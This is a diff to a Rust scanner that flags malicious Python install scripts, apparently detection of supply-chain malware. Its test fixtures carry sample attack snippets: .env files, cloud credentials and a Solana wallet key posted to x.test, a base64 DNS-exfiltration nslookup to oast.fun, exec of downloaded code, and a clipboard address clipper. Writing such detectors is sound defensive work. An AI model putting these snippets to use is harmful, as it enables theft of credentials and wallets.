@@ -2392,7 +2392,20 @@ impl<'t> Py<'t> {
                 cmd.push_str(" ; ");
                 cmd.push_str(&ps);
             }
-            if let Some(code) = python_c_code(&cmd)
+            // `[sys.executable, "-c", code]`: the list form of `python -c`.
+            let list_code = || {
+                let l = cmd_node.filter(|c| matches!(kind(*c), "list" | "tuple"))?;
+                let mut c = l.walk();
+                let items: Vec<Node<'t>> = l.named_children(&mut c).take(3).collect();
+                let interp = text(*items.first()?, src) == "sys.executable"
+                    || self
+                        .static_str(items[0])
+                        .is_some_and(|p| patterns::is_script_run(&format!("{p} x")));
+                (interp && self.static_str(*items.get(1)?).as_deref() == Some("-c"))
+                    .then(|| self.static_str(*items.get(2)?))
+                    .flatten()
+            };
+            if let Some(code) = python_c_code(&cmd).or_else(list_code)
                 && ctx.depth_left > 0
             {
                 self.analyze_layer(code.as_bytes(), false, (line, scope), ctx, sink, facts);
@@ -2432,6 +2445,19 @@ impl<'t> Py<'t> {
                 );
             }
             let o = cmd_node.map(|c| self.origin(c, 0)).unwrap_or(0);
+            // Collected data handed to a command that talks to the network
+            // (`nslookup $(echo {user}@{host}|base64).x.oast.fun`).
+            if o & (HOST | ENV | STOLEN) != 0 && patterns::is_network_command(&cmd) {
+                push(
+                    sink,
+                    ctx,
+                    "EXFIL-SEND-COLLECTED",
+                    line,
+                    snip,
+                    "sends host or environment data with a network command".into(),
+                    Some(scope),
+                );
+            }
             if o & (DECODED | DOWNLOADED | OBF) != 0 {
                 push(
                     sink,
@@ -2583,7 +2609,9 @@ impl<'t> Py<'t> {
                     | "send_message"
             ) || ["data", "json", "files", "body"]
                 .iter()
-                .any(|k| kw(k).is_some());
+                .any(|k| kw(k).is_some())
+                // A mail connection is opened to send.
+                || name.starts_with("smtplib.");
             if sends {
                 facts.upload.push((fid, line, scope, snippet(snip)));
             }
@@ -3574,6 +3602,8 @@ fn is_hostinfo(n: &str) -> bool {
             | "platform.uname"
             | "os.uname"
             | "uuid.getnode"
+            | "psutil.net_if_addrs"
+            | "psutil.users"
             | "getpass.getuser()"
     )
 }
@@ -3786,6 +3816,11 @@ fn returns_of(func: Node<'_>) -> Vec<Node<'_>> {
 mod tests {
     use super::*;
 
+    /// Whether `rule` fires on `src` analysed as `setup.py`.
+    fn fires(src: &str, rule: &str) -> bool {
+        rules(&run(src)).contains(&rule)
+    }
+
     fn run(src: &str) -> Sink {
         let ctx = PyCtx {
             path: "pkg/setup.py",
@@ -3814,7 +3849,7 @@ mod tests {
 
     #[test]
     fn dotenv_files_and_credential_commands_sent_are_stolen_data() {
-        let has = |src: &str| rules(&run(src)).contains(&"EXFIL-SEND-COLLECTED");
+        let has = |src: &str| fires(src, "EXFIL-SEND-COLLECTED");
         // Project secrets hunted with a glob (the loop variable is an item of the glob).
         assert!(has(
             "import glob, requests\nfor p in glob.glob('/home/**/.env', recursive=True):\n    requests.post('https://x.test/u', data=open(p).read())\n"
@@ -3833,7 +3868,7 @@ mod tests {
 
     #[test]
     fn a_library_function_replaced_by_one_that_sends_is_a_stealing_hook() {
-        let has = |src: &str| rules(&run(src)).contains(&"EXFIL-SEND-COLLECTED");
+        let has = |src: &str| fires(src, "EXFIL-SEND-COLLECTED");
         let hook = |body: &str| {
             format!(
                 "import requests, ccxt\n_orig = ccxt.mexc.sign\ndef sign(self, *a, **k):\n{body}\n    return _orig(self, *a, **k)\nccxt.mexc.sign = sign\n"
@@ -3855,28 +3890,24 @@ mod tests {
     fn a_list_grown_at_run_time_is_not_a_static_string() {
         // pyzmq's setup.py: lines read from a file, joined and exec'd to get the version.
         let src = "def v():\n    lines = ['from typing import *\\n']\n    for line in open('v.py'):\n        lines.append(line)\n    ns = {}\n    exec(''.join(lines), ns)\n";
-        assert!(
-            !rules(&run(src)).contains(&"PY-EXEC-DECODED"),
-            "{:?}",
-            rules(&run(src))
-        );
+        assert!(!fires(src, "PY-EXEC-DECODED"), "{:?}", rules(&run(src)));
         // Joining several pieces of a static list still builds a string.
         let split = "exec(''.join(['impo', 'rt os; os.sys', 'tem(\\'id\\')']))\n";
-        assert!(rules(&run(split)).contains(&"PY-EXEC-DECODED"));
+        assert!(fires(split, "PY-EXEC-DECODED"));
     }
 
     #[test]
     fn cloud_keys_the_sdk_resolved_are_host_secrets() {
         let sent = "import boto3, requests\nc = boto3.Session().get_credentials()\nrequests.post('http://x.test/a', json={'k': c.access_key, 's': c.secret_key})\n";
-        assert!(rules(&run(sent)).contains(&"EXFIL-SEND-COLLECTED"));
+        assert!(fires(sent, "EXFIL-SEND-COLLECTED"));
         let used = "import boto3, requests\nc = boto3.Session().get_credentials()\nrequests.post('http://x.test/a', json={'region': 'eu'})\n";
-        assert!(!rules(&run(used)).contains(&"EXFIL-SEND-COLLECTED"));
+        assert!(!fires(used, "EXFIL-SEND-COLLECTED"));
         // Only the SDK's method by its own name: a helper whose name ends alike is not it.
         let own = "import requests
 c = my_get_credentials()
 requests.post('http://x.test/a', json={'k': c})
 ";
-        assert!(!rules(&run(own)).contains(&"EXFIL-SEND-COLLECTED"));
+        assert!(!fires(own, "EXFIL-SEND-COLLECTED"));
         // A wallet key file read and sent is stolen data.
         let wallet = "import os, json, urllib.request\nk = json.load(open(os.path.expanduser('~/.config/solana/id.json')))\nurllib.request.urlopen('https://x.test/k', data=json.dumps(k).encode())\n";
         let r = rules(&run(wallet));
@@ -3888,7 +3919,7 @@ requests.post('http://x.test/a', json={'k': c})
 
     #[test]
     fn text_spelled_in_escape_codes_is_obfuscation() {
-        let has = |src: &str| rules(&run(src)).contains(&"PY-OBF-ESCAPED-TEXT");
+        let has = |src: &str| fires(src, "PY-OBF-ESCAPED-TEXT");
         let three = "a = \"\\x65\\x76\\x61\\x6c\"\nb = '\\143\\157\\155\\160\\151\\154\\145'\nc = u\"\\x6f\\x73\\x2e\\x73\"\n";
         assert!(has(three), "{three}");
         assert_eq!(escaped_text_literals(three.as_bytes()), Some((1, 3)));
@@ -4079,7 +4110,7 @@ requests.post('http://x.test/a', json={'k': c})
         let src = "from requests import get as memset\nfree = exec\nreplace = eval\n\
                    def f():\n    def replace(m):\n        return m\n    return replace\n\
                    r = memset('http://x.test/p')\nfree(replace(r.text))\n";
-        assert!(rules(&run(src)).contains(&"PY-EXEC-DOWNLOADED"));
+        assert!(fires(src, "PY-EXEC-DOWNLOADED"));
     }
 
     #[test]
@@ -4098,7 +4129,7 @@ requests.post('http://x.test/a', json={'k': c})
             "import base64, urllib.request\nu = '{u}'\nu = base64.b64decode(u).decode()\n\
              urllib.request.urlopen(u, data=b'x')\n"
         );
-        assert!(rules(&run(&src)).contains(&"EXFIL-WEBHOOK-SEND"));
+        assert!(fires(&src, "EXFIL-WEBHOOK-SEND"));
     }
 
     #[test]
@@ -4106,7 +4137,7 @@ requests.post('http://x.test/a', json={'k': c})
         let src = "import os, json, urllib.request\n\
                    data = (\"host:\"\n        f\" {os.uname()}\"\n        f\" {dict(os.environ)}\")\n\
                    urllib.request.urlopen('http://x.test/c', data=json.dumps(data).encode())\n";
-        assert!(rules(&run(src)).contains(&"EXFIL-SEND-COLLECTED"));
+        assert!(fires(src, "EXFIL-SEND-COLLECTED"));
     }
 
     #[test]
@@ -4130,11 +4161,26 @@ requests.post('http://x.test/a', json={'k': c})
     }
 
     #[test]
+    fn commands_that_carry_collected_data_or_python_code() {
+        // Host identity in a DNS lookup's name, at install.
+        let dns = "import os, socket, getpass\nd = f'{getpass.getuser()}@{socket.gethostname()}'\nos.popen(f'nslookup $(echo {d}|base64).x.oast.fun')\n";
+        assert!(fires(dns, "EXFIL-SEND-COLLECTED"));
+        let fixed = "import os\nos.popen('nslookup pypi.org')\n";
+        assert!(!fires(fixed, "EXFIL-SEND-COLLECTED"));
+        // `[sys.executable, "-c", code]` runs `code`: it is analysed like `python -c`.
+        let list = "import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'import requests; requests.get(\"https://x.oast.fun\")'])\n";
+        assert!(fires(list, "PY-NET-AT-INSTALL"));
+        let version =
+            "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', '--version'])\n";
+        assert!(!fires(version, "PY-NET-AT-INSTALL"));
+    }
+
+    #[test]
     fn swapping_matched_addresses_for_a_hard_coded_one_is_a_clipper() {
         let swap = "import re\ndef fix(t):\n    return re.sub(r'0x[a-fA-F0-9]{40}', '0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976', t)\n";
-        assert!(rules(&run(swap)).contains(&"STEAL-CLIPPER"));
+        assert!(fires(swap, "STEAL-CLIPPER"));
         let tidy = "import re\ndef fix(t):\n    return re.sub(r'\\s+', ' ', t)\n";
-        assert!(!rules(&run(tidy)).contains(&"STEAL-CLIPPER"));
+        assert!(!fires(tidy, "STEAL-CLIPPER"));
     }
 
     #[test]
@@ -4142,11 +4188,11 @@ requests.post('http://x.test/a', json={'k': c})
         // A library's own `compile` is not the builtin: no code-execution finding.
         let src = "def compile(pattern, flags=0):\n    return pattern\n\n\
                    def match(p, s):\n    return compile(p + s).x\n";
-        assert!(!rules(&run(src)).contains(&"PY-EXEC-DYNAMIC"));
+        assert!(!fires(src, "PY-EXEC-DYNAMIC"));
         // A method named like the builtin does not shadow it at module level.
         let src =
             "class C:\n    def eval(self, x):\n        return x\n\nimport sys\neval(sys.argv[1])\n";
-        assert!(rules(&run(src)).contains(&"PY-EXEC-DYNAMIC"));
+        assert!(fires(src, "PY-EXEC-DYNAMIC"));
     }
 
     #[test]
